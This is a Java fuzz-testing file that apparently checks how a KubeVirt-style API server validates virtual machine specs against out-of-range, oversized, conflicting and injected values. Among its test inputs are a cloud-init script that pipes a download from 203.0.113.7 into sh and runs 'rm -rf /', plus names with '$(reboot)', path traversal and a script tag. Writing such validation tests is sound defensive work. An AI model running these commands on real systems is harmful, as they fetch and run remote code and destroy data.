package io.jvirt.apiserver.fuzz;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.jvirt.apiserver.fuzz.Hostile.Expect;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

/**
 * Hand-aimed mutations of a VMI spec wherever one sits (VMI, VM template, ReplicaSet template):
 * out-of-range numbers, malformed addresses, oversized data and lists, shell metacharacters, and
 * fields that contradict each other; plus the same for object metadata.
 */
final class TargetedMutations {
  private static final String BIG_USER_DATA = "#cloud-config\n# " + "x".repeat(300 * 1024) + "\n";
  private static final String HOSTILE_USER_DATA =
      "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh; rm -rf / --no-preserve-root\n";

  private TargetedMutations() {}

  /** The targeted mutations that apply to {@code base}. */
  static List<Hostile> of(ObjectNode base) {
    String kind = base.path("kind").asText();
    List<Hostile> hostile = new ArrayList<>();
    metadata(base, hostile);
    if (kind.equals("DataVolume") || kind.equals("KubeVirt")) {
      return hostile;
    }
    boolean vmi = kind.equals("VirtualMachineInstance");
    String p = vmi ? "spec." : "spec.template.spec.";
    Spec spec = new Spec(base, vmi, p, hostile);
    spec.refused("cpu", p + "domain.cpu.cores", "cores -2", s -> cpu(s).put("cores", -2));
    spec.refused("cpu", p + "domain.cpu", "cores 100000", s -> cpu(s).put("cores", 100000));
    spec.refused(
        "cpu", p + "domain.cpu.sockets", "sockets 2^31", s -> cpu(s).put("sockets", 2147483648L));
    spec.refused(
        "range",
        p + "terminationGracePeriodSeconds",
        "grace -5",
        s -> s.put("terminationGracePeriodSeconds", -5));
    spec.refused(
        "range",
        p + "domain.memory.guest",
        "guest 999999999Ti",
        s -> domain(s).withObjectProperty("memory").put("guest", "999999999Ti"));
    spec.refused(
        "range",
        p + "domain.resources.requests.memory",
        "request -1Gi",
        s ->
            domain(s)
                .withObjectProperty("resources")
                .withObjectProperty("requests")
                .put("memory", "-1Gi"));
    spec.refused(
        "oversized", p + "hostname", "hostname of 300", s -> s.put("hostname", "a".repeat(300)));
    int cloudInit = volumes(base, vmi).size();
    spec.refused(
        "oversized",
        p + "volumes[" + cloudInit + "].cloudInitNoCloud",
        "300 KiB of user data",
        s -> addCloudInit(s, BIG_USER_DATA));
    spec.accepted(
        "injection", p + "volumes", "shell in user data", s -> addCloudInit(s, HOSTILE_USER_DATA));
    devicesAndVolumes(spec);
    if (!vmi) {
      templateAndOwner(base, kind, hostile);
    }
    return hostile;
  }

  private static void devicesAndVolumes(Spec spec) {
    ObjectNode base = spec.base();
    boolean vmi = spec.vmi();
    String p = spec.prefix();
    spec.refused(
        "oversized", p + "domain.devices.disks", "300 disks", TargetedMutations::manyDisks);
    int disks = disks(base, vmi).size();
    spec.refused(
        "conflict",
        p + "domain.devices.disks[" + disks + "]",
        "disk without volume",
        s -> devices(s).withArray("disks").addObject().put("name", "orphan"));
    if (disks > 0) {
      spec.refused(
          "conflict",
          p + "domain.devices.disks[" + disks + "]",
          "two disks named alike",
          s -> devices(s).withArray("disks").add(devices(s).withArray("disks").get(0).deepCopy()));
      spec.refused(
          "injection",
          p + "domain.devices.disks[0]",
          "serial $(reboot)",
          s -> ((ObjectNode) devices(s).withArray("disks").get(0)).put("serial", "$(reboot)"));
    }
    if (!volumes(base, vmi).isEmpty()) {
      spec.refused(
          "conflict",
          p + "volumes[0]",
          "volume with two sources",
          s ->
              ((ObjectNode) s.withArray("volumes").get(0))
                  .withObjectProperty("emptyDisk")
                  .put("capacity", "1Gi"));
    }
    if (!vmiSpec(base, vmi).path("domain").path("devices").path("interfaces").isEmpty()) {
      spec.refused(
          "malformed",
          p + "domain.devices.interfaces[0].macAddress",
          "MAC zz:zz",
          s -> ((ObjectNode) devices(s).withArray("interfaces").get(0)).put("macAddress", "zz:zz"));
    }
  }

  private static void metadata(ObjectNode base, List<Hostile> hostile) {
    String kind = base.path("kind").asText();
    for (String name : List.of("vm;rm -rf /", "$(reboot)", "../../etc/passwd", "x".repeat(300))) {
      ObjectNode copy = base.deepCopy();
      copy.withObjectProperty("metadata").put("name", name);
      hostile.add(
          new Hostile(
              kind,
              "injection",
              "metadata.name",
              copy,
              Expect.REFUSED_BY_SCHEMA,
              "name " + abbreviate(name)));
    }
    ObjectNode badKey = base.deepCopy();
    badKey.withObjectProperty("metadata").withObjectProperty("labels").put("bad key!", "x");
    hostile.add(
        new Hostile(
            kind,
            "injection",
            "metadata.labels",
            badKey,
            Expect.REFUSED_BY_SCHEMA,
            "label key 'bad key!'"));
    ObjectNode longValue = base.deepCopy();
    longValue
        .withObjectProperty("metadata")
        .withObjectProperty("labels")
        .put("app", "v".repeat(100));
    hostile.add(
        new Hostile(
            kind,
            "oversized",
            "metadata.labels",
            longValue,
            Expect.REFUSED_BY_SCHEMA,
            "label value of 100"));
    ObjectNode scripts = base.deepCopy();
    scripts
        .withObjectProperty("metadata")
        .withObjectProperty("annotations")
        .put("note", "<script>alert(1)</script> $(reboot) `id`");
    if (!kind.equals("KubeVirt")) {
      hostile.add(
          new Hostile(
              kind,
              "injection",
              "metadata.annotations",
              scripts,
              Expect.ACCEPTED,
              "script in an annotation"));
    }
  }

  private static void templateAndOwner(ObjectNode base, String kind, List<Hostile> hostile) {
    ObjectNode badKey = base.deepCopy();
    badKey
        .withObjectProperty("spec")
        .withObjectProperty("template")
        .withObjectProperty("metadata")
        .withObjectProperty("labels")
        .put("bad key!", "x");
    hostile.add(
        new Hostile(
            kind,
            "injection",
            "spec.template.metadata.labels",
            badKey,
            Expect.REFUSED_BY_JVIRT,
            "template label key 'bad key!'"));
    if (kind.equals("VirtualMachine")) {
      ObjectNode sometimes = base.deepCopy();
      sometimes.withObjectProperty("spec").remove("running");
      sometimes.withObjectProperty("spec").put("runStrategy", "Sometimes");
      hostile.add(
          new Hostile(
              kind,
              "enum",
              "spec.runStrategy",
              sometimes,
              Expect.REFUSED_BY_SCHEMA,
              "runStrategy Sometimes"));
      ObjectNode both = base.deepCopy();
      both.withObjectProperty("spec").put("running", true).put("runStrategy", "Always");
      hostile.add(
          new Hostile(
              kind,
              "conflict",
              "spec.running",
              both,
              Expect.REFUSED_BY_JVIRT,
              "running and runStrategy"));
    } else {
      ObjectNode negative = base.deepCopy();
      negative.withObjectProperty("spec").put("replicas", -1);
      hostile.add(
          new Hostile(
              kind, "range", "spec.replicas", negative, Expect.REFUSED_BY_JVIRT, "replicas -1"));
    }
  }

  private static ObjectNode vmiSpec(ObjectNode root, boolean vmi) {
    return vmi
        ? root.withObjectProperty("spec")
        : root.withObjectProperty("spec").withObjectProperty("template").withObjectProperty("spec");
  }

  private static ArrayNode volumes(ObjectNode base, boolean vmi) {
    return vmiSpec(base.deepCopy(), vmi).withArray("volumes");
  }

  private static ArrayNode disks(ObjectNode base, boolean vmi) {
    return devices(vmiSpec(base.deepCopy(), vmi)).withArray("disks");
  }

  private static ObjectNode domain(ObjectNode spec) {
    return spec.withObjectProperty("domain");
  }

  private static ObjectNode devices(ObjectNode spec) {
    return domain(spec).withObjectProperty("devices");
  }

  private static ObjectNode cpu(ObjectNode spec) {
    return domain(spec).withObjectProperty("cpu");
  }

  private static void addCloudInit(ObjectNode spec, String userData) {
    devices(spec)
        .withArray("disks")
        .addObject()
        .put("name", "fuzzci")
        .withObjectProperty("disk")
        .put("bus", "virtio");
    spec.withArray("volumes")
        .addObject()
        .put("name", "fuzzci")
        .withObjectProperty("cloudInitNoCloud")
        .put("userData", userData);
  }

  private static void manyDisks(ObjectNode spec) {
    for (int i = 0; i < 300; i++) {
      devices(spec)
          .withArray("disks")
          .addObject()
          .put("name", "d" + i)
          .withObjectProperty("disk")
          .put("bus", "virtio");
      spec.withArray("volumes")
          .addObject()
          .put("name", "d" + i)
          .withObjectProperty("emptyDisk")
          .put("capacity", "1Mi");
    }
  }

  private static String abbreviate(String text) {
    return text.length() > 20 ? text.substring(0, 10) + "...(" + text.length() + ")" : text;
  }

  /** Builds mutants of one base's VMI spec. */
  private record Spec(ObjectNode base, boolean vmi, String prefix, List<Hostile> out) {
    void refused(String category, String field, String description, Consumer<ObjectNode> change) {
      add(category, field, description, change, Expect.REFUSED_BY_JVIRT);
    }

    void accepted(String category, String field, String description, Consumer<ObjectNode> change) {
      add(category, field, description, change, Expect.ACCEPTED);
    }

    private void add(
        String category,
        String field,
        String description,
        Consumer<ObjectNode> change,
        Expect expect) {
      ObjectNode copy = base.deepCopy();
      change.accept(vmiSpec(copy, vmi));
      out.add(new Hostile(copy.path("kind").asText(), category, field, copy, expect, description));
    }
  }
}
